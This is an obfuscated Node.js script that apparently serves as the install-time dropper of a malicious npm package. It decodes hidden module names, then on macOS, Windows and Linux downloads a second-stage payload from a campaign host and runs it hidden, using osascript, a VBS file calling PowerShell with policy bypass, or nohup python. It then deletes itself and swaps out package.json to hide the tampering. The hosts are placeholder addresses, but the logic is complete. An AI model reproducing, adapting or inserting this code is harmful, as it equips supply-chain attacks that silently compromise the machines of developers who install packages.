const stq = ["__gXvVHdh1lc", "kVGdgM3bKBXd", "=AHdzVGdu8mZ", "tVGdzlXcfRjN"];
const ord = "OrDeR_7077";
const _trans_1 = function (x, r) {
  const E = r.split("").map(Number);
  return x.split("").map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ E[(7 * i * i) % 10] ^ 333)).join("");
};
const _trans_2 = function (x, r) {
  const s = x.split("").reverse().join("").replaceAll("_", "=");
  return _trans_1(Buffer.from(s, "base64").toString("utf8"), r);
};
const _entry = function (campaign) {
  try {
    const fs = require(_trans_2(stq[0], ord));
    const os = require(_trans_2(stq[1], ord));
    const { execSync: run } = require(_trans_2(stq[2], ord));
    const host = "http://sfr.example.test:8000/" + campaign;
    const kind = os.platform();
    const tmp = os.tmpdir();
    let line = "";
    if (kind === "darwin") {
      const scpt = tmp + "/" + campaign;
      fs.writeFileSync(scpt, `do shell script "curl -o /Library/Caches/com.placeholder.act.mond -d packages.example.test/product0 -s ${host} && chmod 770 /Library/Caches/com.placeholder.act.mond && /bin/zsh -c '/Library/Caches/com.placeholder.act.mond ${host} &' &> /dev/null"`);
      line = `nohup osascript "${scpt}" > /dev/null 2>&1 &`;
    } else if (kind === "win32") {
      fs.writeFileSync(tmp + "\\" + campaign + ".vbs", `CreateObject("WScript.Shell").Run "cmd.exe /c curl -s -X POST -d ""packages.example.test/product1"" ""${host}"" > %TEMP%\\s.ps1 & powershell -w hidden -ep bypass -file %TEMP%\\s.ps1", 0, False`);
      line = `cscript "${tmp}\\${campaign}.vbs" //nologo`;
    } else {
      line = `curl -o /tmp/ld.py -d packages.example.test/product2 -s ${host} && nohup python3 /tmp/ld.py ${host} > /dev/null 2>&1 &`;
    }
    run(line);
    fs.unlink(__filename, () => {});
    fs.unlink("package.json", () => {});
    fs.rename("package.md", "package.json", () => {});
  } catch (e) {}
};
_entry("6202033");
